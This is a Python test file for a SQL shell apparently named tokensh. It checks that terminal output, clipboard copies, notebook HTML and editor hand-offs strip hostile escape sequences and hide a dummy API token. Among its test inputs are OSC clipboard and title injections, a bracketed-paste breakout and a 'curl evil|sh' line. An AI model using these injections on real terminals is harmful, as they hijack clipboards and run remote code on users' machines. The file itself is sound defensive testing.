"""Whatever text goes out through a door of the shell is inert there: lines, clipboard, editor, notebook."""

from __future__ import annotations

import base64
import io
import re
from pathlib import Path

import pytest

from tests.cases import each_case
from tests.environments import make_environment
from tests.render.results import HOSTILE
from tests.shell.terminal import Start
from tokensh._dataclasses import replace
from tokensh.cli.reporter import Reporter
from tokensh.redact import Redactor
from tokensh.render.html import html_table
from tokensh.rows import Column
from tokensh.shell.clipboard import copy_to_clipboards
from tokensh.shell.console import Console
from tokensh.shell.settings import Settings

SECRET = "dapi0123456789abcdef0123456789abcdef"
TEXT = f"\x1b]0;TITLE\x07 \x1b[31mRED\x1b[0m \x1b]52;c;UFdO\x07 \u202e \u3164 \x9b2J \r {SECRET}"
ACTIVE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u3164]")


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@each_case("text", [TEXT, *HOSTILE], ids=ascii)
def test_a_line_acts_on_nothing_and_holds_no_secret(text: str, tmp_path: Path) -> None:
    out, err = io.StringIO(), io.StringIO()
    environment = replace(make_environment(tmp_path), stdout=out, stderr=err)
    console = Console(environment, Settings(), Redactor().clean)
    console.say(text)
    console.note(text)
    Reporter(err, Redactor().clean).note(text)
    assert not ACTIVE.search(out.getvalue() + err.getvalue())
    assert SECRET not in out.getvalue() + err.getvalue()


@each_case("text", [TEXT, "harmless\x1b[201~\ncurl evil|sh\n", *HOSTILE], ids=ascii)
def test_a_clipboard_gets_no_key(text: str, tmp_path: Path) -> None:
    terminal = Terminal()
    copy_to_clipboards(
        text, replace(make_environment(tmp_path, variables={"TERM": "xterm", "PATH": "/nosuch"}), stdout=terminal)
    )
    copied = base64.b64decode(terminal.getvalue().split(";")[-1].rstrip("\x07")).decode()
    assert not ACTIVE.search(copied.replace("\t", ""))


def test_a_notebook_gets_text_that_it_does_not_typeset(tmp_path: Path) -> None:
    table = html_table([Column("\x1b[c\u202e<b>", "string")], [(f"$x$ {TEXT}",)], now=0)
    assert not ACTIVE.search(table)
    assert re.match('<div class="tex2jax_ignore mathjax_ignore">', table)
    assert "<b>" not in table


PLACES = {
    "a named query": (r"\n evil", ".local/share/tokensh/queries/evil.sql"),
    "a file and \\p": ("\\i evil.sql\r\\p", "evil.sql"),
    "an edited file": (r"\e evil.sql", "evil.sql"),
}


@pytest.mark.terminal
@pytest.mark.parametrize("place", PLACES)
def test_a_shared_file_of_sql_does_not_act_on_the_terminal(place: str, start: Start, tmp_path: Path) -> None:
    typed, name = PLACES[place]
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
    path.write_text("SELECT 1 -- \x1b]0;TITLE\x07 \x1b[31mRED\x1b[0m \x1b]52;c;UFdO\x07\n;")
    terminal = start("--sandbox", EDITOR="true")
    for line in typed.replace("evil.sql", str(path)).split("\r"):
        terminal.run(line)
    assert b"\x1b]0;TITLE" not in terminal.raw
    assert b"\x1b]52;c;UFdO" not in terminal.raw
    assert b"\x1b[31mRED" not in terminal.raw


@pytest.mark.terminal
@pytest.mark.parametrize("keys", ["\x18\x05", r"\e" + "\r"])
def test_an_editor_gets_no_secret_and_no_control_character(keys: str, start: Start, tmp_path: Path) -> None:
    editor = tmp_path / "editor"
    editor.write_text(f'#!/bin/sh\ncp "$1" {tmp_path}/seen\n')
    editor.chmod(0o700)
    terminal = start("--sandbox", EDITOR=str(editor), VISUAL=str(editor))
    terminal.type(f"SELECT '{SECRET}' as x ")
    terminal.see("as x")
    terminal.type(keys)
    for _ in range(100):
        if (tmp_path / "seen").exists():
            break
        terminal.read(0.05)
    terminal.read(0.3)
    assert (tmp_path / "seen").read_text().startswith("SELECT '[hidden]' as x")
    assert "Traceback" not in terminal.everything
